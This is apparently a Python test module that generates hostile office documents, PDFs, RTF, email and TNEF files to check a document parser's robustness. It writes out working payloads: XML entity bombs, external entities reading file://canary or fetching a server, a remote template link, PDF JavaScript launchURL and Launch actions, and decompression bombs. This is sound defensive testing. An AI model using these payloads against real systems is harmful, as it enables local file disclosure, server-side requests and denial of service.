"""Documents and mails that attack their readers."""
import io
import struct
import zipfile
import zlib

from cfb import compound
from manifest import read
from sheets import record

ENTITIES = '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">%s]>' % "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))


def replaced(source, part, data):
    """A copy of an office file with one part replaced; data may come in pieces."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(read(source))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in {**dict.fromkeys(old.namelist()), part: None}:
            if name != part:
                # An OpenDocument file is told by its first member, which is stored.
                new.writestr(old.getinfo(name), old.read(name))
            elif isinstance(data, bytes):
                new.writestr(name, data)
            else:
                with new.open(name, "w", force_zip64=True) as file:
                    for piece in data:
                        file.write(piece)
    return out.getvalue()


def entities(attack, canary, server):
    parts = [("schedule-office.xlsx", "xl/sharedStrings.xml"), ("plan.docx", "word/document.xml"),
             ("plan.odt", "content.xml"), ("schedule.ods", "content.xml"),
             ("notice.ofd", "Doc_0/Pages/Page_0/Content.xml"), ("slides.pptx", "ppt/slides/slide1.xml")]
    for source, part in parts:
        kind = source.rsplit(".")[1]
        attack(f"entities.{kind}", replaced(source, part, f"{ENTITIES}<x><t>&j;</t></x>".encode()), ["corrupt"])
        for number, target in enumerate([f"file://{canary}", f"{server}/{kind}"]):
            outside = f'<!DOCTYPE l [<!ENTITY a SYSTEM "{target}">]><x><t>&a;</t></x>'
            attack(f"outside{number}.{kind}", replaced(source, part, outside.encode()), ["corrupt"])
    deep = b"<x>" * 200_000
    attack("deep.docx", replaced("plan.docx", "word/document.xml", deep), ["corrupt"])
    attack("deep.odt", replaced("plan.odt", "content.xml", deep), ["corrupt"])
    row = b'<row><c t="str"><v>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</v></c></row>' * 16_000
    pieces = [b'<worksheet xmlns="x"><sheetData>'] + [row] * 300 + [b"</sheetData></worksheet>"]
    attack("part.xlsx", replaced("schedule.xlsx", "xl/worksheets/sheet1.xml", iter(pieces)), ["too-large", None])
    text = b"<w:p><w:r><w:t>" + b"a" * 100_000 + b"</w:t></w:r></w:p>"
    pieces = [b'<w:document xmlns:w="w"><w:body>'] + [text] * 1000 + [b"</w:body></w:document>"]
    attack("part.docx", replaced("plan.docx", "word/document.xml", iter(pieces)), ["too-large"])
    repeated = (b'<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x"><table:table><table:table-row '
                b'table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000">'
                b"<text:p>a</text:p></table:table-cell></table:table-row></table:table></office:document-content>")
    attack("repeated.ods", replaced("schedule.ods", "content.xml", repeated), ["corrupt", "too-large", None])
    template = (f'<Relationships xmlns="x"><Relationship Id="r1" Type="attachedTemplate" Target="{server}/t.dotm" '
                'TargetMode="External"/></Relationships>').encode()
    attack("template.docx", replaced("plan.docx", "word/_rels/settings.xml.rels", template), [None])


def compounds(attack):
    for source in ("plan.doc", "schedule.xls"):
        data = bytearray(read(source))
        first = (struct.unpack_from("<I", data, 76)[0] + 1) * 512
        for place in range(first, first + 512, 4):
            number = (place - first) // 4
            if struct.unpack_from("<I", data, place)[0] < 0xFFFFFFFC:
                struct.pack_into("<I", data, place, number)
        attack(f"loop.{source.rsplit('.')[1]}", bytes(data), ["corrupt", "truncated", "unsupported", "too-large"])
    start = record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 6))
    sheet = record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0, 0, 0, 6))
    cells = b"".join(
        record(0x203, struct.pack("<HHHd", row % 65536, 255, 0, 1.5)) for row in range(100_000))
    listed = record(0x85, struct.pack("<IHBB", 0, 0, 1, 0) + b"a")
    place = len(start) + len(listed) + 4
    listed = record(0x85, struct.pack("<IHBB", place, 0, 1, 0) + b"a")
    rows = sheet + record(0x200, struct.pack("<IIHHH", 0, 0xFFFFFFFF, 0, 0xFFFF, 0)) + cells + record(0x0A)
    attack("rows.xls", compound({"Workbook": start + listed + record(0x0A) + rows}), ["too-large", "corrupt", None])
    table = record(0xFC, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF) + struct.pack("<HBI", 0xFFFF, 0x0C, 0xFFFFFFFF))
    attack("strings.xls", compound({"Workbook": start + table + record(0x0A)}),
           ["corrupt", "truncated", "too-large", None])
    header = bytearray(read("old.xls"))
    struct.pack_into("<I", header, 44, 0xFFFFFFFF)
    struct.pack_into("<I", header, 68, 0)
    struct.pack_into("<I", header, 72, 0xFFFFFFFF)
    attack("tables.xls", bytes(header), ["corrupt", "truncated", "unsupported", None])


def pdf(objects):
    """A PDF file of numbered objects; the first one is its catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(b"%010d 00000 n \n" % at for at in places)
    return out + table + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, len(out))


def stream(data, filters=b"/FlateDecode"):
    return b"<</Length %d/Filter [%s]>>\nstream\n%s\nendstream" % (len(data), filters, data)


def pdfs(attack, canary, server):
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<>>>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count %d>>"
    any_of = ["too-large", "corrupt", "empty", None]
    attack("count.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages % 2_000_000_000, page, stream(zlib.compress(b""))]),
           any_of)
    kids = b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000)
    attack("pages.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", kids, page, stream(zlib.compress(b"BT ET"))]), any_of)
    loop = b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2/Parent 2 0 R>>"
    attack("loop.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", loop, page, stream(zlib.compress(b""))]), any_of)
    script = (f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('{server}/js'\\))/Next"
              f"<</S/Launch/F({canary})/Next<</S/URI/URI({server}/uri)>>>>>>>>").encode()
    attack("script.pdf", pdf([script, pages % 1, page, stream(zlib.compress(b"BT ET"))]), [None])
    bomb = zlib.compress(zlib.compress(bytes(256 << 20), 9), 9)
    bombed = stream(bomb, b"/FlateDecode/FlateDecode")
    attack("stream.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages % 1, page, bombed]), any_of)
    embedded = (b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.txt)<</Type/Filespec/F(a.txt)"
                b"/EF<</F 5 0 R>>>>]>>>>>>")
    attack("embedded.pdf", pdf([embedded, pages % 1, page, stream(zlib.compress(b"BT ET")), bombed]), [None])
    nested = b"[" * 200_000
    attack("nested.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R/X %s>>" % nested, pages % 1, page, b"null"]), any_of)


def texts(attack, server):
    attack("braces.rtf", b"{\\rtf1" + b"{" * (1 << 20), ["corrupt", "truncated", "too-large"])
    attack("words.rtf", b"{\\rtf1\\ansicpg936 " + b"\\u-1\\uc99999999\\bin999999999999 " * 30_000 + b"}",
           ["corrupt", "truncated", None])
    tags = b"<html><body>" + b"<table><tr><td>" * 100_000
    attack("tables.doc", tags, ["corrupt", "too-large", None])
    attack("remote.doc", f'<html><img src="{server}/img"><p>文</p></html>'.encode(), [None])
    head = b"From: a@office.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: "
    soft = b"application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + b"=\r\n" * 2_000_000
    attack("soft.eml", head + soft, [None, "empty"])
    nested = b"".join(
        b'multipart/mixed; boundary="%d"\r\n\r\n--%d\r\nContent-Type: ' % (depth, depth) for depth in range(20_000))
    attack("nested.eml", head + nested + b"text/plain\r\n\r\nx", [None])
    # [MS-OXTNEF] §2.1.3.1: an attribute whose length is a lie, and two hundred thousand of them.
    start = struct.pack("<IH", 0x223E9F78, 1)
    attack("length.dat", start + struct.pack("<BII", 2, 0x0006800F, 0xFFFFFFFF) + b"x" * 100, ["truncated", "corrupt"])
    one = struct.pack("<BII", 2, 0x00069002, 0) + b"\0\0" + struct.pack("<BII", 2, 0x0006800F, 1) + b"x" + b"x\0"
    attack("many.dat", start + one * 100_000, ["too-large"])


def papers(attack, canary, server):
    entities(attack, canary, server)
    compounds(attack)
    pdfs(attack, canary, server)
    texts(attack, server)
